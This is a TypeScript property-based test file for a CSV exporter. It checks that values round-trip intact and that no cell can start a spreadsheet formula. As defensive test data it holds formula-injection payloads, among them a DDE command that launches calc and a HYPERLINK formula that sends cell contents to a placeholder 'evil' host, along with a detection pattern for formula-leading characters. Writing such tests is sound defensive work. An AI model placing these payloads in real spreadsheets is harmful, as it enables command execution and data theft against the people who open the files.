/** Files for a spreadsheet: what is read back is what was written, and no cell is a formula. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { csvOf } from '../../src/page/csv.ts'

/** RFC 4180 read back, strictly: a quote only where a cell is quoted. */
function readCsv(text: string): readonly (readonly string[])[] {
  expect(text.startsWith('\ufeff')).toBe(true)
  const rows: string[][] = []
  let row: string[] = []
  let at = 1
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (at >= text.length) throw new Error('a quoted cell does not end')
        if (text[at] === '"') at += 1
        cell += text[at]
      }
      at += 1
    } else
      for (; !',\r'.includes(text[at] ?? '\r'); at += 1) {
        if (text[at] === '"' || text[at] === '\n') throw new Error('a cell that should be quoted')
        cell += text[at]
      }
    row.push(cell)
    if (text[at] === ',') at += 1
    else {
      if (text.slice(at, at + 2) !== '\r\n') throw new Error('a row does not end in CR LF')
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

const hostile = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }),
  fc
    .tuple(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '\t',
        '\r',
        '\n',
        '＝',
        '＋',
        '－',
        '＠',
        '﹢',
        '﹣',
        '−',
        '|',
        '%',
        ' =',
        '\u200b@',
        '\u00a0=',
      ),
      fc.string(),
    )
    .map(([start, rest]) => start + rest),
  fc.constantFrom(
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil?"&A1,"x")',
    'a,b',
    '"',
    'two\r\nlines',
    "'",
    '',
  ),
)
const cell = fc.oneof(
  hostile,
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
  fc.constant(null),
)

/** What every program skips or not before it looks whether a cell is a formula. */
const STARTS_FORMULA = /^[\s\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u00ad]*[=+\-@|%＝＋－＠﹢﹣−]/u

describe('csv', () => {
  it('is read back as it was written, but for the mark of harmlessness', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const read = readCsv(csvOf(rows))
          expect(read.length).toBe(rows.length)
          for (const [index, row] of rows.entries()) {
            expect(read[index]?.length).toBe(row.length)
            for (const [column, value] of row.entries()) {
              const back = read[index]?.[column] ?? ''
              if (value === null) expect(back).toBe('')
              else if (typeof value === 'number') expect(Number(back)).toBe(Object.is(value, -0) ? 0 : value)
              else expect([value, `'${value}`]).toContain(back)
            }
          }
        },
      ),
      { numRuns: 500 },
    )
  })

  it('has no text that a spreadsheet takes for a formula', () => {
    fc.assert(
      fc.property(hostile, (text) => {
        const [[back = ''] = []] = readCsv(csvOf([[text, 1]]))
        expect(back).not.toMatch(STARTS_FORMULA)
        expect(back).not.toMatch(/^[\t\r\n]/)
      }),
      { numRuns: 1000 },
    )
  })

  it('leaves numbers numbers, also below zero, and ordinary names as they are', () => {
    expect(
      csvOf([
        ['Name', 'n'],
        ['solder, twice', -3.5],
        ['“Börse”', null],
      ]),
    ).toBe('\ufeffName,n\r\n"solder, twice",-3.5\r\n“Börse”,\r\n')
  })
})
